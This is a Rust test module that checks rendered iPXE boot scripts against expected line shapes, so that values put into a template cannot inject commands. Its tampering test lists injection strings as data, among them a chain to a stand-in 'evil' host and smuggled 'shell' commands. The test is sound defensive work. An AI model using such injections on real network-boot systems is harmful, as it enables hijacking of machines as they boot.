//! Test-only: reads a rendered script the way iPXE does and checks that it has exactly the
//! structure the template meant, whatever values were put into it.
//!
//! iPXE (`image/script.c`, `core/exec.c`) reads a script line by line, split on `\n`; it drops a
//! trailing `\r` and joins a line ending in `\` with the next. A line whose first non-blank
//! character is `:` is a label. Any other line is split into words on whitespace; a word starting
//! with `#` starts a comment; the words `||`, `&&` and `;` end a command; `${name}` is replaced
//! by the value of setting `name`, and the result is scanned again. Recent iPXE expands each word
//! after splitting; older builds expanded the whole line first and then split it. The checker is
//! stricter than both, so a script it accepts parses the same way under either:
//!
//! - the script is printable ASCII and `\n` only: no `\r`, tab, NUL, other control character or
//!   non-ASCII byte; no `\`, quote or backtick anywhere;
//! - the first line is `#!ipxe`, then there are exactly as many lines as expected, each of the
//!   expected kind: comment, label (exact name) or command (exact name, word count, and the exact
//!   text from its first operator on, so no operator can be added or removed);
//! - in command words: no word starts with `#`, no `|` or `;` at all, and exactly as many `&` as
//!   the template puts there (the `&buildarch=` of a query string);
//! - every `${…}` is one of the settings the caller allows (typed settings that never expand to
//!   whitespace, `$`, braces or operators), and no `$`, `{` or `}` is left once they are removed;
//! - one space between words, none at either end of a line;
//! - every `goto` names a label that exists exactly once, further down: a script cannot loop.

use crate::platform::Platform;

/// What one line of a script must be.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Expect {
    /// `# …`: ignored by iPXE.
    Comment,
    /// `:name`.
    Label(&'static str),
    /// A command: its name, how many words before the first operator (`None`: any number), the
    /// exact text from the first operator on (`""`: no operator), and how many `&` its words hold.
    Cmd {
        name: &'static str,
        words: Option<usize>,
        tail: &'static str,
        amps: usize,
    },
}

pub(crate) fn cmd(name: &'static str, words: Option<usize>, tail: &'static str) -> Expect {
    cmd_amps(name, words, tail, 0)
}

pub(crate) fn cmd_amps(
    name: &'static str,
    words: Option<usize>,
    tail: &'static str,
    amps: usize,
) -> Expect {
    Expect::Cmd {
        name,
        words,
        tail,
        amps,
    }
}

/// A command line as iPXE would split it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Parsed {
    /// Words of the first command, before any operator, unexpanded.
    pub words: Vec<String>,
    /// Names of the settings expanded in those words, in order.
    pub expansions: Vec<String>,
}

/// boot.ipxe as `entry_script` writes it for a usable base URL.
pub(crate) fn entry_shape() -> Vec<Expect> {
    let mut v = vec![
        Expect::Comment,
        cmd("echo", None, ""),
        cmd_amps("chain", Some(3), "|| goto byol_failed", 1),
        Expect::Label("byol_failed"),
        cmd("echo", None, ""),
    ];
    v.extend(fallback_any_platform());
    v
}

/// The install script; the kernel line's word count depends on console and extra arguments.
pub(crate) fn install_shape(platform: Platform) -> Vec<Expect> {
    let mut v = vec![
        Expect::Comment,
        cmd("echo", None, ""),
        cmd("kernel", None, "|| goto byol_failed"),
        cmd("initrd", Some(4), "|| goto byol_failed"),
        cmd("boot", Some(1), "|| goto byol_failed"),
        Expect::Label("byol_failed"),
        cmd("echo", None, ""),
        cmd("echo", None, ""),
        cmd("sleep", Some(2), ""),
    ];
    // the local-disk part, without local_boot_script's comment and reason lines
    v.extend(local_boot_shape(platform).into_iter().skip(2));
    v
}

/// The local-disk boot as `local_boot_script` writes it (comment and reason lines included).
pub(crate) fn local_boot_shape(platform: Platform) -> Vec<Expect> {
    let mut v = vec![Expect::Comment, cmd("echo", None, "")];
    match platform {
        Platform::Pcbios => v.extend(sanboot_shape()),
        Platform::Efi => v.extend([cmd("echo", None, ""), cmd("exit", Some(2), "")]),
    }
    v
}

/// The fallback whose platform iPXE decides at run time (entry script).
pub(crate) fn fallback_any_platform() -> Vec<Expect> {
    let mut v = vec![
        cmd("echo", None, ""),
        cmd("sleep", Some(2), ""),
        cmd("iseq", Some(3), "&& exit 1 ||"),
    ];
    v.extend(sanboot_shape());
    v
}

fn sanboot_shape() -> Vec<Expect> {
    vec![
        cmd("echo", None, ""),
        cmd("sanboot", Some(4), "|| goto byol_no_local_disk"),
        Expect::Label("byol_no_local_disk"),
        cmd("echo", None, ""),
        cmd("exit", Some(2), ""),
    ]
}

fn is_operator(w: &str) -> bool {
    matches!(w, "||" | "&&" | ";")
}

/// Checks `script` against `expect` (lines after `#!ipxe`), allowing only the named settings to
/// be expanded. Returns the parsed lines (empty for comments and labels).
pub(crate) fn check(
    script: &str,
    settings: &[&str],
    expect: &[Expect],
) -> Result<Vec<Parsed>, String> {
    for (i, b) in script.bytes().enumerate() {
        if b != b'\n' && !(0x20..0x7f).contains(&b) {
            return Err(format!(
                "byte {b:#04x} at {i} is not printable ASCII:\n{script}"
            ));
        }
        if matches!(b, b'\\' | b'"' | b'\'' | b'`') {
            return Err(format!("`{}` at {i}:\n{script}", char::from(b)));
        }
    }
    let body = script
        .strip_suffix('\n')
        .ok_or_else(|| format!("no final newline:\n{script}"))?;
    let mut lines = body.split('\n');
    if lines.next() != Some("#!ipxe") {
        return Err(format!("first line is not `#!ipxe`:\n{script}"));
    }
    let lines: Vec<&str> = lines.collect();
    if lines.len() != expect.len() {
        return Err(format!(
            "{} lines after the header, expected {}:\n{script}",
            lines.len(),
            expect.len()
        ));
    }

    let mut labels: Vec<(usize, &str)> = Vec::new();
    let mut gotos: Vec<(usize, String)> = Vec::new();
    let mut out = Vec::new();
    for (n, (line, exp)) in lines.iter().zip(expect).enumerate() {
        let at = || format!("line {} `{line}`", n + 2);
        if line.is_empty() || line.starts_with(' ') || line.ends_with(' ') || line.contains("  ") {
            return Err(format!("{}: bad spacing", at()));
        }
        match exp {
            Expect::Comment => {
                if !line.starts_with("# ") || line.contains('$') {
                    return Err(format!("{}: expected a comment", at()));
                }
                out.push(Parsed {
                    words: vec![],
                    expansions: vec![],
                });
            }
            Expect::Label(name) => {
                if line.strip_prefix(':') != Some(name) {
                    return Err(format!("{}: expected label :{name}", at()));
                }
                if labels.iter().any(|(_, l)| l == name) {
                    return Err(format!("{}: label defined twice", at()));
                }
                labels.push((n, name));
                out.push(Parsed {
                    words: vec![],
                    expansions: vec![],
                });
            }
            Expect::Cmd {
                name,
                words,
                tail,
                amps,
            } => {
                if line.starts_with([':', '#']) {
                    return Err(format!("{}: expected command {name}", at()));
                }
                let tokens: Vec<&str> = line.split(' ').collect();
                let first_op = tokens
                    .iter()
                    .position(|t| is_operator(t))
                    .unwrap_or(tokens.len());
                let (cmd_words, rest) = tokens.split_at(first_op);
                if rest.join(" ") != *tail {
                    return Err(format!(
                        "{}: operators `{}`, expected `{tail}`",
                        at(),
                        rest.join(" ")
                    ));
                }
                if cmd_words.first() != Some(name) {
                    return Err(format!("{}: expected command {name}", at()));
                }
                if let Some(count) = words
                    && cmd_words.len() != *count
                {
                    return Err(format!(
                        "{}: {} words, expected {count}",
                        at(),
                        cmd_words.len()
                    ));
                }
                let mut expansions = Vec::new();
                let mut amp_count = 0;
                for w in cmd_words {
                    if w.starts_with('#') {
                        return Err(format!("{}: word `{w}` starts a comment", at()));
                    }
                    if w.contains(['|', ';']) {
                        return Err(format!("{}: word `{w}` holds `|` or `;`", at()));
                    }
                    amp_count += w.matches('&').count();
                    let left = strip_expansions(w, settings, &mut expansions)
                        .map_err(|e| format!("{}: {e}", at()))?;
                    if left.contains(['$', '{', '}']) {
                        return Err(format!(
                            "{}: word `{w}` holds a stray `$`, `{{` or `}}`",
                            at()
                        ));
                    }
                }
                if amp_count != *amps {
                    return Err(format!("{}: {amp_count} `&`, expected {amps}", at()));
                }
                let all: Vec<&str> = tokens.clone();
                for (i, t) in all.iter().enumerate() {
                    if *t == "goto" {
                        let target = all
                            .get(i + 1)
                            .ok_or_else(|| format!("{}: goto without label", at()))?;
                        gotos.push((n, (*target).to_string()));
                    }
                }
                out.push(Parsed {
                    words: cmd_words.iter().map(|w| w.to_string()).collect(),
                    expansions,
                });
            }
        }
    }
    for (n, target) in gotos {
        match labels.iter().find(|(_, l)| *l == target) {
            Some((at, _)) if *at > n => {}
            Some(_) => return Err(format!("goto {target} on line {} jumps backwards", n + 2)),
            None => return Err(format!("goto {target} on line {}: no such label", n + 2)),
        }
    }
    Ok(out)
}

/// Removes each `${name}` (name allowed) from `w`, recording the names; any other `${…}` is an error.
fn strip_expansions(w: &str, settings: &[&str], found: &mut Vec<String>) -> Result<String, String> {
    let mut left = String::new();
    let mut rest = w;
    while let Some(start) = rest.find("${") {
        left.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let end = after
            .find('}')
            .ok_or_else(|| format!("unclosed `${{` in `{w}`"))?;
        let name = &after[..end];
        if !settings.contains(&name) {
            return Err(format!("unexpected expansion `${{{name}}}` in `{w}`"));
        }
        found.push(name.to_string());
        left.push('X');
        rest = &after[end + 1..];
    }
    left.push_str(rest);
    Ok(left)
}

#[cfg(test)]
mod tests {
    use super::*;

    const OK: &str = "#!ipxe\n# c\necho hi ${netX/mac}\nsanboot --no-describe --drive 0x80 || goto l\n:l\nexit 1\n";

    fn shape() -> Vec<Expect> {
        vec![
            Expect::Comment,
            cmd("echo", None, ""),
            cmd("sanboot", Some(4), "|| goto l"),
            Expect::Label("l"),
            cmd("exit", Some(2), ""),
        ]
    }

    #[test]
    fn accepts_the_reference() {
        let p = check(OK, &["netX/mac"], &shape()).unwrap();
        assert_eq!(p[1].expansions, ["netX/mac"]);
    }

    /// The checker must catch every way an injection could change the script.
    #[test]
    fn catches_tampering() {
        let s = &["netX/mac"];
        let bad = [
            OK.replace("echo hi", "echo hi\nshell"),
            OK.replace("echo hi", "echo hi || shell"),
            OK.replace("echo hi", "echo hi && chain http://evil/"),
            OK.replace("echo hi", "echo hi ; shell"),
            OK.replace("echo hi", "echo hi;shell"),
            OK.replace("echo hi", "echo hi|shell"),
            OK.replace("echo hi", "echo hi&x"),
            OK.replace("echo hi", "echo hi ${root-path}"),
            OK.replace("echo hi", "echo hi ${net0/mac}"),
            OK.replace("echo hi", "echo hi ${netX/mac${x}}"),
            OK.replace("echo hi", "echo hi $x"),
            OK.replace("echo hi", "echo hi {x}"),
            OK.replace("echo hi", "echo hi #x"),
            OK.replace("echo hi", "echo hi \\"),
            OK.replace("echo hi", "echo hi \"x\""),
            OK.replace("echo hi", "echo hi 'x'"),
            OK.replace("echo hi", "echo hi\tx"),
            OK.replace("echo hi", "echo hi\rx"),
            OK.replace("echo hi", "echo hi é"),
            OK.replace("echo hi", "echo  hi"),
            OK.replace("echo hi", ":echo hi"),
            OK.replace("echo hi", "# echo hi"),
            OK.replace("0x80 || goto l", "0x80"),
            OK.replace("0x80 ||", "0x80 &&"),
            OK.replace("--drive 0x80", "--drive 0x80 0x81"),
            OK.replace(":l\n", ":l\n:l\n"),
            OK.replace(":l", ":m"),
            OK.replace("#!ipxe", "#!gpxe"),
            OK.trim_end().to_string(),
            format!("{OK}shell\n"),
        ];
        for b in bad {
            assert!(check(&b, s, &shape()).is_err(), "accepted {b:?}");
        }
    }

    #[test]
    fn catches_backward_goto() {
        let looped = "#!ipxe\n:top\nchain x || goto top\n";
        let shape = [Expect::Label("top"), cmd("chain", Some(2), "|| goto top")];
        let e = check(looped, &[], &shape).unwrap_err();
        assert!(e.contains("backwards"), "{e}");
    }
}
